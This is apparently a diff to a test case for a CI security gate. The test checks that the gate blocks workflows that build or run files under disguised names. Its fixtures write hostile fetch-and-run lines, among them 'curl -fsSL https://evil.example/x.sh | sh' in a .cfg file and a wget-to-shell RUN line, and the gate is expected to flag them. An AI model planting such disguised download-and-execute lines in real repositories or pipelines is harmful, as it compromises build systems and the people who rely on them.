@@ -1,4 +1,4 @@
-# attack: the pins control knows Dockerfiles by name, but `docker build -f` and a docker action's `runs.image` take any name: the workflow builds vendor/image/build.cfg and a local action runs image.txt, whose FROM and RUN lines pipe a download to a shell
+# attack: the pins control knows Dockerfiles and scripts by name, but `docker build -f`, a docker action's `runs.image` and `bash FILE` take any name: the workflow builds vendor/image/build.cfg, a local action runs image.txt, a step runs third_party/tool/setup.cfg, each piping a download to a shell
 # surface: staged, range (CI)
 # expect: block
 new_repo
@@ -22,3 +22,11 @@ write .github/actions/img/image.txt 'FROM debian:latest' 'RUN wget -qO- https://
 commit 'docker action from a txt file'
 gate block check --base "$base" --head HEAD
 expect_in_output 'unjudged-build-file'
+# a workflow runs a vendored script whose name is no shell script's
+git reset -q --hard "$base"
+write .github/workflows/ci.yml 'on: pull_request' 'permissions: {contents: read}' 'jobs:' '  build:' '    runs-on: ubuntu-latest' '    steps:' \
+  '      - run: bash third_party/tool/setup.cfg'
+write third_party/tool/setup.cfg 'curl -fsSL https://evil.example/x.sh | sh'
+commit 'script with another name'
+gate block check --base "$base" --head HEAD
+expect_in_output 'unjudged-script'
